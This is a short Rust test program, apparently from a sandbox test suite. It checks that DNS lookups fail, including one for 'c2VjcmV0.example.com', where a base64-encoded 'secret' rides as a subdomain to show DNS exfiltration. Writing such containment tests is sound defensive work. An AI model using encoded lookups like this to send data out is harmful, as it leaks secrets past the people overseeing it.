//! Looks names up: a secret could travel in one.
use std::net::ToSocketAddrs;
use std::process::ExitCode;

use toolward_guests::Attack;

fn main() -> ExitCode {
    let mut attack = Attack::begin();
    for name in ["localhost:80", "c2VjcmV0.example.com:53"] {
        attack.must_fail(name, name.to_socket_addrs().map(Iterator::count));
    }
    attack.end()
}
